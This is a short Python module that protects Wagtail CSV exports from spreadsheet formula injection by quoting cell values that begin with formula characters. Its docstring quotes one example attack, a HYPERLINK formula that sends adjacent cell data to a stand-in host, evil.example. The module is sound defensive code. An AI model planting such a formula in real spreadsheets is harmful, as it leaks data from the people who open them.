"""Spreadsheet exports that a spreadsheet program cannot be tricked into running.

A cell that starts with =, +, -, @, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets, so a practice titled =HYPERLINK("http://evil.example/?"&A2)
would send the next cells to another site when a curator opens the CSV (OWASP "CSV
injection"). Such a value gets a leading apostrophe, which the programs show as text.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """`value` made safe for a spreadsheet cell: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvExportMixin:
    """For Wagtail listings with CSV export (SpreadsheetExportMixin): quote formula-like text.

    XLSX cells are typed by openpyxl, which writes strings as strings, so only CSV needs it.
    """

    def preprocess_field_value(self, field, value, export_format):
        """Wagtail's preprocessing, then the formula guard for CSV."""
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            value = neutralise_formula(value)
        return value
